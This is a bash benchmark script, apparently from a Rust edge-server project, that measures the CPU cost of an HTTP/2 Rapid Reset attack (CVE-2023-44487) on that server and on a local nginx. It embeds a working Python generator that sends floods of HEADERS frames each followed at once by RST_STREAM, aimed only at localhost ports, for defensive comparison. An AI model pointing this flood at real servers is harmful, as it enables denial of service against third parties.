#!/usr/bin/env bash
# What a rapid reset (CVE-2023-44487) costs the edge, and what it costs nginx: both are attacked in the clear by turns, for
# as long and as hard, with requests that are reset at once, on connections that are opened again as they are closed.
# Prints each one's processor time and their ratio, and asserts nothing.
#
#   [SECONDS_EACH=5] [ROUNDS=3] bench/rapid-reset.sh [path to temps]
set -euo pipefail
cd "$(dirname "$0")/.."

binary=${1:-${CARGO_TARGET_DIR:-target}/release/temps}
seconds=${SECONDS_EACH:-5}
rounds=${ROUNDS:-3}
folder=$(mktemp -d)
pids=()

stop() {
    kill "${pids[@]}" 2>/dev/null || true
    wait "${pids[@]}" 2>/dev/null || true
    rm -rf "$folder"
}
trap stop EXIT

# cpu_ms PID: processor time of a process and its children, in milliseconds.
cpu_ms() {
    local -a children
    mapfile -t children < <(pgrep -P "$1" | sed 's|.*|/proc/&/stat|')
    cat "/proc/$1/stat" "${children[@]}" |
        awk -v hz="$(getconf CLK_TCK)" '{ sum += $14 + $15 } END { print int(sum * 1000 / hz) }'
}

# attack PORT: prints how many requests were sent and reset.
attack() {
    python3 - "$1" "$seconds" <<'PYTHON'
import socket, struct, sys, time

port, seconds = int(sys.argv[1]), float(sys.argv[2])
def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
def literal(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value
head = (literal(b":method", b"GET") + literal(b":scheme", b"http") + literal(b":path", b"/")
        + literal(b":authority", b"localhost"))
begin = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
pairs = [frame(1, 5, n, head) + frame(3, 0, n, b"\0\0\0\x08") for n in range(1, 20_001, 2)]
pieces = [b"".join(pairs[at:at + 50]) for at in range(0, len(pairs), 50)]
sent, opened, end = 0, 0, time.monotonic() + seconds
while time.monotonic() < end:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=5) as stream:
            opened += 1
            stream.sendall(begin)
            stream.setblocking(False)
            for piece in pieces:
                stream.setblocking(True)
                stream.settimeout(5)
                stream.sendall(piece)
                sent += 50
                stream.setblocking(False)
                try:
                    while (got := stream.recv(1 << 16)):
                        pass
                    break
                except BlockingIOError:
                    pass
                if time.monotonic() > end:
                    break
    except OSError:
        pass
print(sent, opened)
PYTHON
}

[ -x "$binary" ] || { echo "no binary at $binary: run \`cargo build --release -p temps\` first" >&2; exit 1; }
command -v nginx >/dev/null || { echo 'there is no nginx: apt-get install nginx-light' >&2; exit 1; }
cat >"$folder/nginx.conf" <<CONF
worker_processes 2;
daemon off;
pid $folder/nginx.pid;
error_log $folder/nginx.log crit;
events { worker_connections 4096; }
http {
    access_log off;
    server { listen 127.0.0.1:18081 http2; location / { return 503; } }
}
CONF
nginx -c "$folder/nginx.conf" -e "$folder/nginx.log" & nginx=$!
TEMPS_ADMIN_EMAIL=admin@example.com TEMPS_ADMIN_PASSWORD=rapid-reset-password "$binary" serve --data-dir "$folder/data" \
    --http 127.0.0.1:18080 --https off --api 127.0.0.1:13000 --peer 127.0.0.1:13001 >"$folder/log" 2>&1 & temps=$!
pids=("$nginx" "$temps")
for _ in $(seq 300); do
    curl -fsS -o /dev/null http://127.0.0.1:13000/readyz 2>/dev/null && break
    kill -0 "$temps" || { tail -n 20 "$folder/log" >&2; exit 1; }
    sleep 0.1
done

printf '%-8s %12s %12s %12s %14s\n' server 'resets sent' connections 'CPU' 'CPU per reset'
for _ in $(seq "$rounds"); do
    for name in nginx temps; do
        pid=${!name}
        port=$([ "$name" = nginx ] && echo 18081 || echo 18080)
        before=$(cpu_ms "$pid")
        read -r sent opened <<<"$(attack "$port")"
        used=$(($(cpu_ms "$pid") - before))
        printf '%-8s %12d %12d %9d ms %11s µs\n' "$name" "$sent" "$opened" "$used" "$(echo "scale=2; $used * 1000 / $sent" | bc)"
    done
done
